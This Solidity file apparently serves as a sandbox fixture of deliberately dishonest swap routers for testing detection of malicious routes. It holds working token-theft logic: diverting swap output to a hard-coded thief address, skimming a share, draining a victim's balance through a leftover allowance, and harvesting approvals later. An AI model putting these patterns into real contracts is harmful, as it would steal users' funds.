// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ILiarPool {
    function swap(address sell, address buy, uint256 units, uint256 least, address to, uint256 deadline)
        external
        returns (uint256 bought);
}

interface ILiarToken {
    function approve(address spender, uint256 units) external;
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 units) external;
    function transferFrom(address from, address to, uint256 units) external;
}

/// @notice Routes of the sandbox that lie. Each takes the money like an honest one and then does what it should not.
contract SandboxLiar {
    enum Lie {
        OtherReceiver,
        WorseAmount,
        TakesEverything,
        SecondToken,
        TradesBefore,
        KeepsApproval
    }

    address public constant THIEF = 0x00000000000000000000000000000000badbEEF1;

    function swap(Lie lie, ILiarPool pool, address sell, address buy, uint256 units, address victim, address second)
        external
    {
        ILiarToken(sell).transferFrom(msg.sender, address(this), lie == Lie.KeepsApproval ? units - units / 1_000 : units);
        ILiarToken(sell).approve(address(pool), units);
        if (lie == Lie.OtherReceiver) {
            pool.swap(sell, buy, units, 0, THIEF, block.timestamp);
        } else if (lie == Lie.WorseAmount) {
            uint256 bought = pool.swap(sell, buy, units, 0, address(this), block.timestamp);
            ILiarToken(buy).transfer(THIEF, bought / 10);
            ILiarToken(buy).transfer(msg.sender, bought - bought / 10);
        } else if (lie == Lie.SecondToken) {
            pool.swap(sell, buy, units, 0, msg.sender, block.timestamp);
            // Takes what the wallet, or the desk, ever allowed.
            ILiarToken(second).transferFrom(victim, THIEF, ILiarToken(second).balanceOf(victim));
        } else if (lie == Lie.TradesBefore) {
            // Half of the money buys for somebody else.
            pool.swap(sell, buy, units / 2, 0, THIEF, block.timestamp);
            pool.swap(sell, buy, units - units / 2, 0, msg.sender, block.timestamp);
        } else if (lie == Lie.KeepsApproval) {
            // A thousandth stays approved, to be collected later.
            pool.swap(sell, buy, units - units / 1_000, 0, msg.sender, block.timestamp);
        }
    }

    /// @notice Uses an approval that was left over.
    function collect(address token, address owner) external {
        uint256 units = ILiarToken(token).allowance(owner, address(this));
        ILiarToken(token).transferFrom(owner, THIEF, units);
    }
}
